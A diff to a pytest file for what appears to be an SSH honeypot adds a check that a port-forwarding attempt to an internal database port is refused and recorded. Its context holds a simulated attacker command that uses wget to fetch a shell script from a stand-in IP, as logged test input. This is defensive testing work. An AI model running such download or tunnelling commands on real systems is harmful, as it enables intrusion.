@@ -195,6 +195,9 @@ async def test_accepted_login_records_requests_and_runs_nothing(
         assert b"sh: 1: wget: not found\n" in output
         with pytest.raises(asyncssh.ChannelOpenError):
             await conn.start_sftp_client()
+        with pytest.raises(asyncssh.ChannelOpenError) as refused:
+            await conn.open_connection("10.0.0.5", 5432)
+        assert refused.value.reason == "Connection refused"
     (login,) = captured.of("ssh.login")
     assert login["event.outcome"] == "success"
     requests = [(e["ssh.request"], e.get("ssh.command")) for e in captured.of("ssh.request")]
@@ -202,6 +205,7 @@ async def test_accepted_login_records_requests_and_runs_nothing(
     assert ("shell", None) in requests
     assert ("input", "wget http://203.0.113.9/x.sh") in requests
     assert ("subsystem", "sftp") in requests
+    assert ("direct-tcpip", "10.0.0.5:5432") in requests
 
 
 @pytest.mark.parametrize("lure", [{"keyboard_interactive": True}], indirect=True)
